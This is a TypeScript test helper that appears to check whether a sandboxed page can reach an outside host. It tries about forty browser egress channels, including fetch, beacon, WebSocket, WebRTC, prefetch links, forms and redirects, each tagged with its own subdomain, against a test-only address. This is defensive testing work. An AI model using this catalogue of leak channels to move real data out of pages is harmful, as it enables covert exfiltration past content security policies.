/** Where the attempts go: an address and the end of a name, both of which only the test's own network knows. */
export type Outside = Readonly<{ address: string; domain: string }>;

/**
 * Runs in a page: tries every way we know by which a page makes its browser send something. Each way
 * asks for a name of its own, so that a captured packet tells which one it was. Never throws.
 * It is handed to the page as text and must not use anything outside itself.
 */
export async function tryToLeak({ address, domain }: Outside): Promise<string[]> {
  const tried: string[] = [];
  const attempt = (name: string, act: (url: string, host: string) => unknown) => {
    for (const host of [`${name}.${domain}`, address]) {
      try {
        const done = act(`http://${host}/${name}`, host);
        if (done instanceof Promise) done.catch(() => undefined);
      } catch {
        // Refused on the spot: what this is about.
      }
    }
    tried.push(name);
  };
  const add = (tag: string, attributes: Readonly<Record<string, string>>) => {
    const element = document.createElement(tag);
    for (const [name, value] of Object.entries(attributes)) {
      try {
        element.setAttribute(name, value);
      } catch {
        // Trusted Types refuse this attribute.
      }
    }
    document.body.append(element);
    return element;
  };

  attempt('fetch', (url) => fetch(url, { mode: 'no-cors' }));
  attempt('fetch-keepalive', (url) =>
    fetch(url, { mode: 'no-cors', method: 'POST', body: 'x', keepalive: true }),
  );
  attempt('xhr', (url) => {
    const request = new XMLHttpRequest();
    request.open('GET', url);
    request.send();
  });
  attempt('beacon', (url) => navigator.sendBeacon(url, 'x'));
  attempt('websocket', (_url, host) => new WebSocket(`ws://${host}/`));
  attempt('eventsource', (url) => new EventSource(url));
  attempt('webtransport', (_url, host) => new WebTransport(`https://${host}/`));
  attempt('worker', (url) => new Worker(url));
  attempt('import', (url) => import(/* @vite-ignore */ url));
  attempt('font', (url) => new FontFace('leak', `url(${url})`).load());
  attempt('css', (url) => {
    add('p', {}).style.backgroundImage = `url(${url})`;
  });
  attempt('style-import', (url) => {
    add('style', {}).textContent = `@import "${url}";`;
  });
  for (const rel of [
    'dns-prefetch',
    'preconnect',
    'prefetch',
    'prerender',
    'preload',
    'modulepreload',
    'stylesheet',
    'icon',
    'manifest',
  ]) {
    attempt(`link-${rel}`, (href) => add('link', { rel, href, as: 'image' }));
  }
  for (const tag of ['img', 'script', 'iframe', 'embed', 'audio', 'video', 'track', 'input']) {
    attempt(tag, (src) => add(tag, { src, type: tag === 'input' ? 'image' : '' }));
  }
  attempt('object', (data) => add('object', { data }));
  attempt('poster', (poster) => add('video', { poster }));
  attempt('svg-image', (url) => {
    const svg = document.createElementNS('http://www.w3.org/2000/svg', 'svg');
    const image = document.createElementNS('http://www.w3.org/2000/svg', 'image');
    image.setAttribute('href', url);
    svg.append(image);
    document.body.append(svg);
  });
  attempt('speculation', (url) => {
    const rules = add('script', { type: 'speculationrules' });
    rules.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: [url] }] });
  });
  attempt('notification', (icon) => new Notification('x', { icon }));
  attempt('webrtc', async (_url, host) => {
    const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:${host}:3478` }] });
    peer.createDataChannel('leak');
    await peer.setLocalDescription(await peer.createOffer());
  });
  attempt('identity', (url) =>
    navigator.credentials.get({ identity: { providers: [{ configURL: url }] } } as never),
  );
  attempt('window', (url) => window.open(url));
  attempt('anchor', (href) => add('a', { href, ping: `${href}/ping`, target: '_blank' }).click());
  attempt('download', (href) => add('a', { href, download: 'leak' }).click());
  attempt('form', (action) =>
    (add('form', { action, method: 'post' }) as HTMLFormElement).submit(),
  );
  attempt('refresh', (url) => add('meta', { 'http-equiv': 'refresh', content: `0;url=${url}` }));

  // Last, for without the guards it would end this page.
  await new Promise((resolve) => setTimeout(resolve, 1_000));
  attempt('location', (url) => location.assign(url));
  await new Promise((resolve) => setTimeout(resolve, 1_000));
  return tried;
}
